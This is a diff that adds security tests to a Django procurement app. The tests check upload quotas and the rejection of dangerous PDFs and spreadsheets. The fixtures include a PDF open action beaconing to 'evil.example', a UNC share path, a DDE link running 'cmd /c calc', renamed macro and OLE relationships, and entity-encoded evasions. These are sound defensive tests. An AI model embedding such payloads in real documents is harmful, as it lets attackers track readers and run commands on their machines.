@@ -19,13 +19,16 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
+from pikepdf import Dictionary, Name
 
 from beneficiaries.hours.models import Statement
 from clauses.decp.models import FileReading
 from clauses.procurement.models import AdviceRequest, Tender
 from inclusiv.accounts.models import Organisation
+from inclusiv.core.forms import RESUMED
 from inclusiv.records.models import StoredFile
 from tests.attacks.conftest import Attacker
+from tests.clauses.decp.samples import contract, file_of
 from tests.uploads import gzip_bomb, pdf
 from tests.world import World
 
@@ -176,6 +179,75 @@ def test_to_fill_the_disk_by_asking_and_withdrawing_without_end(
         assert asked() == 302
 
 
+def test_to_fill_the_disk_by_what_is_refused_beside(
+    world: World, browser: Attacker, settings: Any, storage: Path
+) -> None:
+    """Three pieces of which the last is one too many: nothing is kept, nor what came before it, which nobody counts."""
+    papers = [pdf(f"Plan {rank}") for rank in (1, 2, 3)]
+    settings.DAILY_UPLOAD_BYTES = int(2.5 * len(papers[0]))
+    StoredFile.objects.update(sender_id=None)
+    before = kept_in(storage)
+    form: dict[str, Any] = {"submission": str(uuid4())}
+    for rank, paper in enumerate(papers, start=1):
+        form[f"piece_{rank}"] = SimpleUploadedFile(f"plan-{rank}.pdf", paper)
+    AdviceRequest.objects.filter(tender=world.own.draft).update(status="WITHDRAWN", decided_at=timezone.now())
+    browser.acting(world.cast.buyer)
+    answer = browser.post(reverse("procurement:ask-advice-on", args=[world.own.draft.pk]), form)
+    assert (answer.status_code, "n’est pas gardé" in answer.said) == (422, True)
+    assert kept_in(storage) == before
+
+
+def test_to_leave_a_file_behind_by_a_form_that_comes_back(
+    world: World, browser: Attacker, storage: Path
+) -> None:
+    """What comes back to be read again is undone whole: so is the file that somebody hung on it."""
+    before = kept_in(storage)
+    AdviceRequest.objects.filter(tender=world.own.draft).update(status="WITHDRAWN", decided_at=timezone.now())
+    form = {"submission": RESUMED, "piece_1": SimpleUploadedFile("plan.pdf", pdf("Plan"))}
+    browser.acting(world.cast.buyer)
+    browser.post(reverse("procurement:ask-advice-on", args=[world.own.draft.pk]), form)
+    assert kept_in(storage) == before
+    form["piece_1"] = SimpleUploadedFile("plan.json", file_of(contract()))
+    browser.post(reverse("decp:read"), {"submission": RESUMED, "file": form["piece_1"]})
+    assert kept_in(storage) == before
+
+
+def kept_in(storage: Path) -> set[Path]:
+    """Return the contents that lie in a storage, whether a row names them or not."""
+    return {path for path in storage.rglob("*") if path.is_file()}
+
+
+@pytest.mark.parametrize(
+    "opening",
+    [
+        {"/S": Name.URI, "/URI": "https://evil.example/?qui=nadia"},
+        {"/S": Name.GoTo, "/D": [0], "/Next": Dictionary(S=Name.URI, URI="https://evil.example/")},
+        {"/S": Name.Thread, "/F": "\\\\evil.example\\partage", "/D": 0},
+        {"/S": Name.Named, "/N": Name.Print},
+    ],
+    ids=["site", "site after a page", "share", "printer"],
+)
+def test_to_have_a_document_do_something_as_its_reader_opens_it(
+    world: World, browser: Attacker, opening: dict[str, Any]
+) -> None:
+    """A buyer’s piece that leads its reader to a site tells who opens it, and when."""
+    AdviceRequest.objects.filter(tender=world.own.draft).update(status="WITHDRAWN", decided_at=timezone.now())
+    piece = SimpleUploadedFile("plan.pdf", pdf("Plan", opening=opening))
+    form = {"submission": str(uuid4()), "piece_1": piece}
+    browser.acting(world.cast.buyer)
+    answer = browser.post(reverse("procurement:ask-advice-on", args=[world.own.draft.pk]), form)
+    assert (answer.status_code, "une action" in answer.said) == (422, True)
+
+
+def test_a_document_that_opens_on_one_of_its_pages_comes_through(world: World, browser: Attacker) -> None:
+    AdviceRequest.objects.filter(tender=world.own.draft).update(status="WITHDRAWN", decided_at=timezone.now())
+    piece = SimpleUploadedFile("plan.pdf", pdf("Plan", opening={"/S": Name.GoTo, "/D": [0, Name.Fit]}))
+    form = {"submission": str(uuid4()), "piece_1": piece}
+    browser.acting(world.cast.buyer)
+    answer = browser.post(reverse("procurement:ask-advice-on", args=[world.own.draft.pk]), form)
+    assert answer.status_code == 302
+
+
 def test_a_file_of_fifty_megabytes_is_told_its_weight(world: World, browser: Attacker) -> None:
     browser.acting(world.cast.facilitator)
     file = SimpleUploadedFile("gros.json", b"[" + b" " * (50 << 20))
@@ -229,7 +301,22 @@ def test_names_of_people_that_are_not_names(
 
 RELATION = '<Relationships><Relationship Id="r" Type="http://x/relationships/{kind}" Target="{to}" {mode}/></Relationships>'
 OUTSIDE = RELATION.format(kind="image", to="file:///evil.example/a.png", mode='TargetMode="External"')
+COMMAND = RELATION.format(kind="externalLink", to="autre/part1.xml", mode="")
 LIVE_SHEETS = {
+    "a command under another name": {
+        "xl/_rels/workbook.xml.rels": COMMAND,
+        "xl/autre/part1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+    },
+    "its kind, said otherwise": {"xl/_rels/workbook.xml.rels": COMMAND.replace("L", "&#76;")},
+    "an object under another name": {
+        "xl/worksheets/_rels/sheet1.xml.rels": RELATION.format(
+            kind="oleObject", to="../autre/o.bin", mode=""
+        ),
+    },
+    "macros under another name": {
+        "xl/_rels/workbook.xml.rels": RELATION.format(kind="vbaProject", to="autre.bin", mode=""),
+    },
+    "relations in another writing": {"xl/drawings/_rels/drawing1.xml.rels": OUTSIDE.encode("utf-16-be")},
     "a picture from elsewhere": {"xl/drawings/_rels/drawing1.xml.rels": OUTSIDE},
     "the same, said otherwise": {"xl/drawings/_rels/drawing1.xml.rels": OUTSIDE.replace("E", "&#69;", 1)},
     "data from elsewhere": {"xl/connections.xml": "<connections/>"},
